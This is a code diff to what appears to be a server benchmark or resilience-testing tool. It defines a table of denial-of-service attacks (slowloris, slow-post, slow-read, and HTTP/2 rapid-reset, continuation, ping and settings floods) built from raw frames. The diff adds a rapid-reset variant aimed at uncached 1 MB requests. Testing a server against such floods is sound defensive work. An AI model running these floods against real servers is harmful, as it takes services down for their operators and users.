@@ -17,10 +17,10 @@ from collections.abc import Awaitable, Callable, Iterator
 import hpack
 import hyperframe.frame as frames
 
-from bench.content import HOST
+from bench.content import HOST, ONE_KILOBYTE, ONE_MEGABYTE
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frames.SettingsFrame(0, {}).serialize()
-GET = f"GET /1m.bin HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
+GET = f"GET {ONE_MEGABYTE.path} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
 HEAD = f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-Slow: ".encode()
 POST = f"POST /post HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 1000000\r\n\r\n".encode()
 DRIP_SECONDS = 2.0
@@ -74,8 +74,8 @@ def _open_head() -> bytes:
     return frames.HeadersFrame(1, _fields()).serialize()
 
 
-def _fields(*more: tuple[str, str]) -> bytes:
-    lines = [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", "/1m.bin"), *more]
+def _fields(*more: tuple[str, str], path: str = ONE_KILOBYTE.path) -> bytes:
+    lines = [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", path), *more]
     return bytes(hpack.Encoder().encode(lines))
 
 
@@ -83,8 +83,8 @@ def _again(frame: bytes) -> Callable[[], Iterator[bytes]]:
     return lambda: itertools.repeat(frame * 50)
 
 
-def _resets() -> Iterator[bytes]:
-    block = _fields()
+def _resets(path: str) -> Iterator[bytes]:
+    block = _fields(path=path)
     for stream in range(1, 1 << 30, 2):
         asked = frames.HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
         yield asked + frames.RstStreamFrame(stream, error_code=8).serialize()
@@ -100,7 +100,9 @@ ATTACKS: dict[str, tuple[bool, Act]] = {
     "slowloris": (False, slow(HEAD)),
     "slow-post": (False, slow(POST)),
     "slow-read": (False, slow_read),
-    "h2-rapid-reset": (True, flood(_nothing, _resets)),
+    "h2-rapid-reset": (True, flood(_nothing, lambda: _resets(ONE_KILOBYTE.path))),
+    # What nobody waits for is not stored: each of these costs a request to the origin, which has the viewer's CPU here.
+    "h2-reset-misses": (True, flood(_nothing, lambda: _resets(ONE_MEGABYTE.path))),
     "h2-continuation": (True, flood(_open_head, _again(frames.ContinuationFrame(1, b"").serialize()))),
     "h2-ping": (True, flood(_nothing, _again(frames.PingFrame(0, b"12345678").serialize()))),
     "h2-settings": (True, flood(_nothing, _again(frames.SettingsFrame(0, {}).serialize()))),
